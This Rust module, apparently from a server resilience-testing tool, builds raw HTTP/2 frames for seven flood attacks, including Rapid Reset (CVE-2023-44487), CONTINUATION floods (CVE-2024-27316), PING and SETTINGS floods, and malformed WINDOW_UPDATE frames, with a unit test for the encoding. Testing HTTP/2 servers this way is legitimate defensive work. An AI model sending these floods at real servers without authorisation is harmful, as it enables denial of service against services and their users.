//! Frames of HTTP/2 (RFC 9113 §4.1), byte by byte: a library would not let one misbehave.

pub(super) const HEAD_BYTES: usize = 9;

/// The preface, and settings that are all as they are by default.
pub(super) const BEGIN: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const CANCEL: [u8; 4] = [0, 0, 0, 8];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// CVE-2023-44487.
    RapidReset,
    /// CVE-2024-27316.
    Continuation,
    EmptyData,
    Ping,
    Settings,
    /// More than a window can hold.
    WindowOverflow,
    /// An increment of nothing.
    WindowZero,
}

impl Flood {
    pub(super) const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::Ping,
        Self::Settings,
        Self::WindowOverflow,
        Self::WindowZero,
    ];

    pub(super) fn text(self) -> &'static str {
        match self {
            Self::RapidReset => "requests that are reset at once",
            Self::Continuation => "a head that never ends (CONTINUATION)",
            Self::EmptyData => "empty DATA",
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowOverflow => "WINDOW_UPDATE beyond what a window holds",
            Self::WindowZero => "WINDOW_UPDATE by nothing",
        }
    }

    /// What is sent `at`-th on a connection, after [`BEGIN`].
    pub(super) fn frame(self, host: &str, at: usize) -> Vec<u8> {
        let is_first = at == 0;
        match self {
            Self::RapidReset => {
                let stream = u32::try_from(2 * at + 1).unwrap_or(1);
                let asking = frame(HEADERS, END_HEADERS | END_STREAM, stream, &request("GET", host));
                [asking, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
            }
            Self::Continuation if is_first => frame(HEADERS, END_STREAM, 1, &request("GET", host)),
            Self::Continuation => frame(CONTINUATION, 0, 1, &field(&format!("x-{at}"), "y")),
            Self::EmptyData if is_first => frame(HEADERS, END_HEADERS, 1, &request("POST", host)),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::WindowOverflow => frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
            Self::WindowZero => frame(WINDOW_UPDATE, 0, 0, &[0; 4]),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Nothing here is longer than two bytes can tell.
    let [.., high, low] = payload.len().to_be_bytes();
    [&[0, high, low, kind, flags], stream.to_be_bytes().as_slice(), payload].concat()
}

/// Fields spelled out (RFC 7541 §6.2.2), each shorter than 127 bytes.
fn request(method: &str, host: &str) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "https"), (":path", "/"), (":authority", host)];
    fields.into_iter().flat_map(|(name, value)| field(name, value)).collect()
}

fn field(name: &str, value: &str) -> Vec<u8> {
    let text = |text: &str| {
        let length = u8::try_from(text.len()).unwrap_or_default();
        [&[length], text.as_bytes()].concat()
    };
    [vec![0], text(name), text(value)].concat()
}

pub(super) fn payload_bytes(head: &[u8; HEAD_BYTES]) -> usize {
    usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2])
}

pub(super) fn is_goaway(head: &[u8; HEAD_BYTES]) -> bool {
    head[3] == GOAWAY
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_spelled_as_the_rfc_says() {
        assert_eq!(Flood::Ping.frame("a", 3), b"\0\0\x08\x06\0\0\0\0\0\0\0\0\0\0\0\0\0");
        assert_eq!(Flood::EmptyData.frame("a", 1), b"\0\0\0\0\0\0\0\0\x01");
        let resets = Flood::RapidReset.frame("a.localhost", 1);
        let head: [u8; HEAD_BYTES] = resets[..HEAD_BYTES].try_into().unwrap();
        assert_eq!((head[3], head[4], &head[5..]), (HEADERS, 5, [0, 0, 0, 3].as_slice()));
        let rest = &resets[HEAD_BYTES + payload_bytes(&head)..];
        assert_eq!(rest, b"\0\0\x04\x03\0\0\0\0\x03\0\0\0\x08");
    }
}
